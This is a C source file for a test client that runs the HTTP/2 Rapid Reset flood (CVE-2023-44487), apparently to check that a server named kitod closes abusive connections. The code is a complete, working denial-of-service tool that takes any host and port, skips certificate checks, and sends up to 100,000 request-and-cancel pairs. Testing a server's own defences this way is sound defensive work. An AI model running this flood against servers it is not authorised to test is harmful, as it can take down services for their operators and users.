/*
 * h2_rapid_reset: an HTTP/2 Rapid Reset (CVE-2023-44487) flood client, to prove kitod's guard.
 *
 *   h2_rapid_reset HOST PORT [MAX_STREAMS=100000] [SECONDS=10] [PATH=/healthz]
 *
 * Connects with TLS (certificate not verified) and ALPN h2, then in a tight loop sends HEADERS
 * (GET PATH, END_STREAM) and at once RST_STREAM(CANCEL) for the same stream, until MAX_STREAMS
 * streams were sent, SECONDS passed, or the server closed the connection (TCP close, TLS close or
 * GOAWAY). After the loop it waits up to 2 s more for a close that was already on its way.
 * Prints one line:
 *
 *   RAPID_RESET streams_sent=N resets_sent=N closed_by_server=0|1 goaway=0|1 goaway_error=E
 *               responses=N seconds=S
 *
 * (one line; wrapped here). Exit status: 0 when the server closed the connection, 1 when the
 * flood ran to its end without that, 2 when the connection could not be set up.
 *
 * Build: cc -std=gnu17 -O2 h2_rapid_reset.c $(pkg-config --cflags --libs libnghttp2 openssl)
 */
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <nghttp2/nghttp2.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

typedef struct flood {
    int fd;
    SSL *ssl;
    nghttp2_session *session;
    unsigned char *out; /* bytes nghttp2 produced, not yet written */
    size_t out_len, out_cap;
    bool closed; /* the server closed the connection (or sent GOAWAY) */
    bool goaway;
    uint32_t goaway_error;
    uint64_t headers_sent, resets_sent, responses;
} flood;

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static ssize_t on_send(nghttp2_session *session, const uint8_t *data, size_t len, int flags,
                       void *ud)
{
    flood *f = ud;
    (void)session;
    (void)flags;
    if (f->out_len + len > f->out_cap) {
        size_t cap = (f->out_len + len) * 2;
        unsigned char *n = realloc(f->out, cap);
        if (n == NULL)
            return NGHTTP2_ERR_CALLBACK_FAILURE;
        f->out = n;
        f->out_cap = cap;
    }
    memcpy(f->out + f->out_len, data, len);
    f->out_len += len;
    return (ssize_t)len;
}

static int on_frame_send(nghttp2_session *session, const nghttp2_frame *frame, void *ud)
{
    flood *f = ud;
    (void)session;
    if (frame->hd.type == NGHTTP2_HEADERS)
        f->headers_sent++;
    else if (frame->hd.type == NGHTTP2_RST_STREAM)
        f->resets_sent++;
    return 0;
}

static int on_frame_recv(nghttp2_session *session, const nghttp2_frame *frame, void *ud)
{
    flood *f = ud;
    (void)session;
    if (frame->hd.type == NGHTTP2_GOAWAY) {
        f->goaway = true;
        f->goaway_error = frame->goaway.error_code;
        f->closed = true;
    } else if (frame->hd.type == NGHTTP2_HEADERS && frame->headers.cat == NGHTTP2_HCAT_RESPONSE) {
        f->responses++;
    }
    return 0;
}

/* Reads whatever the server sent, without blocking. */
static void pump_read(flood *f)
{
    unsigned char buf[16384];
    while (!f->closed) {
        int n = SSL_read(f->ssl, buf, sizeof(buf));
        if (n > 0) {
            if (nghttp2_session_mem_recv(f->session, buf, (size_t)n) < 0)
                f->closed = true; /* the server broke the protocol: count it as a close */
            continue;
        }
        int e = SSL_get_error(f->ssl, n);
        if (e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE)
            return;
        f->closed = true; /* ZERO_RETURN (close_notify), SYSCALL (EOF, reset), SSL */
    }
}

/* Writes the pending bytes, reading meanwhile so neither side can stall the other. */
static void flush(flood *f, double deadline)
{
    size_t off = 0;
    while (off < f->out_len && !f->closed) {
        int n = SSL_write(f->ssl, f->out + off, (int)(f->out_len - off));
        if (n > 0) {
            off += (size_t)n;
            continue;
        }
        int e = SSL_get_error(f->ssl, n);
        if (e != SSL_ERROR_WANT_READ && e != SSL_ERROR_WANT_WRITE) {
            f->closed = true;
            break;
        }
        if (now_s() > deadline)
            break;
        struct pollfd p = {f->fd, (short)(POLLIN | (e == SSL_ERROR_WANT_WRITE ? POLLOUT : 0)), 0};
        poll(&p, 1, 100);
        if (p.revents & (POLLIN | POLLHUP | POLLERR))
            pump_read(f);
    }
    f->out_len = 0;
}

static int connect_tcp(const char *host, const char *port)
{
    struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *res, *ai;
    if (getaddrinfo(host, port, &hints, &res) != 0)
        return -1;
    int fd = -1;
    for (ai = res; ai != NULL; ai = ai->ai_next) {
        fd = socket(ai->ai_family, ai->ai_socktype, ai->ai_protocol);
        if (fd < 0)
            continue;
        if (connect(fd, ai->ai_addr, ai->ai_addrlen) == 0)
            break;
        close(fd);
        fd = -1;
    }
    freeaddrinfo(res);
    return fd;
}

int main(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: %s HOST PORT [MAX_STREAMS] [SECONDS] [PATH]\n", argv[0]);
        return 2;
    }
    const char *host = argv[1], *port = argv[2];
    long max_streams = argc > 3 ? strtol(argv[3], NULL, 10) : 100000;
    double seconds = argc > 4 ? strtod(argv[4], NULL) : 10.0;
    const char *path = argc > 5 ? argv[5] : "/healthz";
    if (max_streams <= 0 || max_streams > 1000000000L || seconds <= 0) {
        fprintf(stderr, "h2_rapid_reset: bad MAX_STREAMS or SECONDS\n");
        return 2;
    }

    signal(SIGPIPE, SIG_IGN); /* a closed connection must show up as an error, not kill us */
    flood f = {.fd = -1};
    f.fd = connect_tcp(host, port);
    if (f.fd < 0) {
        fprintf(stderr, "h2_rapid_reset: cannot connect to %s:%s\n", host, port);
        return 2;
    }
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    static const unsigned char alpn[] = "\x02h2";
    SSL_CTX_set_alpn_protos(ctx, alpn, sizeof(alpn) - 1);
    SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);
    f.ssl = SSL_new(ctx);
    SSL_set_fd(f.ssl, f.fd);
    SSL_set_tlsext_host_name(f.ssl, "localhost");
    if (SSL_connect(f.ssl) != 1) {
        fprintf(stderr, "h2_rapid_reset: TLS handshake failed\n");
        ERR_print_errors_fp(stderr);
        return 2;
    }
    const unsigned char *proto;
    unsigned proto_len;
    SSL_get0_alpn_selected(f.ssl, &proto, &proto_len);
    if (proto_len != 2 || memcmp(proto, "h2", 2) != 0) {
        fprintf(stderr, "h2_rapid_reset: the server did not select h2 in ALPN\n");
        return 2;
    }
    SSL_set_mode(f.ssl, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
    fcntl(f.fd, F_SETFL, fcntl(f.fd, F_GETFL) | O_NONBLOCK);

    nghttp2_session_callbacks *cbs;
    nghttp2_session_callbacks_new(&cbs);
    nghttp2_session_callbacks_set_send_callback(cbs, on_send);
    nghttp2_session_callbacks_set_on_frame_send_callback(cbs, on_frame_send);
    nghttp2_session_callbacks_set_on_frame_recv_callback(cbs, on_frame_recv);
    nghttp2_session_client_new(&f.session, cbs, &f);
    nghttp2_session_callbacks_del(cbs);
    nghttp2_submit_settings(f.session, NGHTTP2_FLAG_NONE, NULL, 0);

    char authority[300];
    snprintf(authority, sizeof(authority), "%s:%s", host, port);
    const nghttp2_nv hdrs[] = {
        {(uint8_t *)":method", (uint8_t *)"GET", 7, 3, NGHTTP2_NV_FLAG_NONE},
        {(uint8_t *)":scheme", (uint8_t *)"https", 7, 5, NGHTTP2_NV_FLAG_NONE},
        {(uint8_t *)":authority", (uint8_t *)authority, 10, strlen(authority),
         NGHTTP2_NV_FLAG_NONE},
        {(uint8_t *)":path", (uint8_t *)path, 5, strlen(path), NGHTTP2_NV_FLAG_NONE},
    };

    double start = now_s(), end = start + seconds;
    while (!f.closed && f.headers_sent < (uint64_t)max_streams && now_s() < end) {
        for (int i = 0; i < 64 && f.headers_sent < (uint64_t)max_streams; i++) {
            int32_t id = nghttp2_submit_request(f.session, NULL, hdrs, 4, NULL, NULL);
            if (id < 0 || nghttp2_session_send(f.session) != 0) {
                f.closed =
                    !nghttp2_session_want_write(f.session) && !nghttp2_session_want_read(f.session);
                break;
            }
            nghttp2_submit_rst_stream(f.session, NGHTTP2_FLAG_NONE, id, NGHTTP2_CANCEL);
            nghttp2_session_send(f.session);
        }
        flush(&f, end);
        pump_read(&f);
    }
    /* a close may already be on its way: give it a moment */
    for (double wait_end = now_s() + 2.0; !f.closed && now_s() < wait_end;) {
        struct pollfd p = {f.fd, POLLIN, 0};
        if (poll(&p, 1, 100) > 0)
            pump_read(&f);
    }
    double took = now_s() - start;
    printf("RAPID_RESET streams_sent=%llu resets_sent=%llu closed_by_server=%d goaway=%d "
           "goaway_error=%u responses=%llu seconds=%.3f\n",
           (unsigned long long)f.headers_sent, (unsigned long long)f.resets_sent, f.closed ? 1 : 0,
           f.goaway ? 1 : 0, f.goaway_error, (unsigned long long)f.responses, took);
    fflush(stdout);

    nghttp2_session_del(f.session);
    SSL_free(f.ssl);
    SSL_CTX_free(ctx);
    close(f.fd);
    free(f.out);
    return f.closed ? 0 : 1;
}
